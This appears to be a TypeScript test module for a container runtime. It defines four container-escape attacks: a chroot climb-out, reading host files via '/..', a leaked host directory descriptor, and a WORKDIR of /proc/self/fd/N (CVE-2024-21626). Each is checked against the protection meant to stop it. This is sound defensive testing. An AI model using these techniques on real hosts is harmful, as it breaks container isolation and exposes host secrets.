/**
 * What if … the container climbs out of its root; … it works in a directory of the host's, by a
 * descriptor that somebody has left open? CVE-2024-21626
 */
import { closeSync, constants, openSync } from 'node:fs';
import { kernel } from '../../lib/kernel/call.ts';
import { AT_FDCWD, F_SETFD, O_CLOEXEC, O_DIRECTORY, O_PATH } from '../../lib/kernel/constants.ts';
import type { Program } from '../../lib/launch/program.ts';
import { type Attack, type Guard, printed, simple } from './attack.ts';
import { give } from './capabilities.ts';
import { rewriteLines } from './rewrite.ts';
import { type Scene, SECRET } from './scene.ts';

const DEPTH = 16;

const chrootOnly = (program: Program) =>
  rewriteLines(program, ({ call: name }, call) => {
    if (name === 'pivotRoot') call.chroot('.');
    return name === 'pivotRoot' || name === 'umount2';
  });

const climbOut = simple({
  title: 'climb out: chroot once more, cd .. to the top',
  protection: 'pivot_root (chroot in its place)',
  given: { what: 'CAP_SYS_CHROOT', change: give('CAP_SYS_CHROOT') },
  without: { rewrite: chrootOnly },
  calls: (call, { secret }) => {
    call.chroot('/bin');
    for (let i = 0; i < DEPTH; i++) call.chdir('..');
    call.chroot('.');
    call.attempt.execve('/bin/cat', ['cat', secret], {});
    call.exit(1);
  },
  judge: printed(SECRET),
});

const oldRoot = simple({
  title: 'read a file of the host through /..',
  protection: 'the old root is unmounted',
  without: {
    rewrite: (program) => rewriteLines(program, ({ call: name }) => name === 'umount2'),
  },
  script: ({ secret }) => `cat /..${secret}`,
  judge: printed(SECRET),
});

/** Open for whoever is started from here, as an engine's mistake would leave it. */
function leak(scene: Scene, open: DisposableStack): number {
  const fd = open.adopt(
    openSync(scene.outside, constants.O_RDONLY | constants.O_DIRECTORY),
    closeSync,
  );
  kernel.fcntl(fd, F_SETFD, 0);
  return fd;
}

/** All descriptors up to this one are the container's: --preserve-fds. */
const upTo = (fd: number) => fd - 2;

const leakedDescriptor: Attack = {
  title: 'read through a descriptor of the host’s that an engine left open',
  protection: 'every descriptor is closed (--preserve-fds)',
  attempt: async (scene, guard) => {
    using open = new DisposableStack();
    const fd = leak(scene, open);
    const ran = await scene.run({
      script: `cat /proc/self/fd/${fd}/secret`,
      preserveFds: guard === 'off' ? upTo(fd) : 0,
    });
    return printed(SECRET)(ran);
  },
};

/** The place where the program opens its working directory. */
const plainDirectory = (program: Program, path: string) =>
  rewriteLines(program, ({ call: name, args }, call) => {
    if (name !== 'openat2' || args[1] !== path) return false;
    call.openat(AT_FDCWD, path, O_PATH | O_DIRECTORY | O_CLOEXEC);
    return true;
  });

const workIn = async (scene: Scene, guard: Guard, cwd: (fd: number) => string) => {
  using open = new DisposableStack();
  const fd = leak(scene, open);
  const ran = await scene.run({
    script: 'cat secret',
    preserveFds: guard === 'default' ? 0 : upTo(fd),
    change: ({ process }) => {
      process.cwd = cwd(fd);
    },
    ...(guard === 'off' ? { rewrite: (it) => plainDirectory(it, cwd(fd)) } : {}),
  });
  return printed(SECRET)(ran);
};

const hostileDirectory: Attack = {
  title: 'WORKDIR /proc/self/fd/N, a directory of the host’s',
  protection: 'no magic link is followed (openat2)',
  given: 'the descriptor, with --preserve-fds',
  attempt: (scene, guard) => workIn(scene, guard, (fd) => `/proc/self/fd/${fd}`),
};

export const attacks: readonly Attack[] = [climbOut, oldRoot, leakedDescriptor, hostileDirectory];
